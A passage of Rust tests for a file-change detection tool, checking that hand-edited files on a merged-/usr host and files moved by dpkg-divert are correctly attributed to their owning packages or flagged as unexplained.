    assert_eq!(unexplained_paths(&changes), ["/usr/sbin/kfmerged-admin"]);
}

#[test]
fn on_a_merged_usr_host_a_file_under_bin_changed_by_hand_is_unexplained() {
    let fx = merged_usr_fixture();
    let deb = build_deb(&fx.state.path().join("debs"), "kfmerged", "1.0", &under_bin());
    dpkg(fx.host.path(), &["-i", deb.to_str().unwrap()]);
    let ws = workspace(vec![files("bin", "/usr/bin"), files("packages", "/var/lib/dpkg")]);
    fx.init(&ws);
    std::fs::write(fx.host.path().join("usr/bin/kfmerged"), "#!/bin/sh\necho owned\n").unwrap();
    let changes = fx.detect(&ws);
    assert_eq!(unexplained_paths(&changes), ["/usr/bin/kfmerged"]);
}

#[test]
fn a_file_diverted_with_dpkg_divert_belongs_to_the_diverting_package() {
    require("dpkg-divert");
    let fx = Fixture::new();
    let debs = fx.state.path().join("debs");
    dpkg_init(fx.host.path());
    let original = build_deb(
        &debs,
        "kforig",
        "1.0",
        &[file("/usr/bin/kftool", "#!/bin/sh\necho original\n")],
    );
    dpkg(fx.host.path(), &["-i", original.to_str().unwrap()]);
    // The diverting package moves the original aside and ships its own, as a shim would.
    let status = std::process::Command::new("dpkg-divert")
        .arg(format!("--root={}", fx.host.path().display()))
        .args([
            "--package",
            "kfshim",
            "--divert",
            "/usr/bin/kftool.distrib",
            "--rename",
            "--add",
            "/usr/bin/kftool",
        ])
        .status()
        .unwrap();
    assert!(status.success());
    let shim = build_deb(
        &debs,
        "kfshim",
        "1.0",
        &[file("/usr/bin/kftool", "#!/bin/sh\necho shim\n")],
    );
    dpkg(fx.host.path(), &["-i", shim.to_str().unwrap()]);
    let ws = ws(AttributionMode::Report, "/var/lib/dpkg");
    fx.init(&ws);
    // Both packages reinstalled: the shim's file at the path, the original where it was moved.
    dpkg(fx.host.path(), &["-i", original.to_str().unwrap()]);
    dpkg(fx.host.path(), &["-i", shim.to_str().unwrap()]);
    let changes = fx.detect(&ws);
    assert_eq!(unexplained(&changes), [], "{:#?}", paths(&changes));
    for (path, package) in [
        ("/usr/bin/kftool", "kfshim"),
        ("/usr/bin/kftool.distrib", "kforig"),
    ] {
        let attribution = only_change(&changes, path).attribution.as_ref().unwrap();
        assert_eq!(attribution.package.as_deref(), Some(package), "{path}");
        assert!(attribution.digest_verified, "{path} matches {package}'s md5sum");
    }
    // Hand-edit the diverted original: its owner's digest no longer matches.
    std::fs::write(
        fx.host.path().join("usr/bin/kftool.distrib"),
        "#!/bin/sh\necho tampered\n",
    )
    .unwrap();
    let changes = fx.detect(&ws);
    assert_eq!(unexplained_paths(&changes), ["/usr/bin/kftool.distrib"]);
}
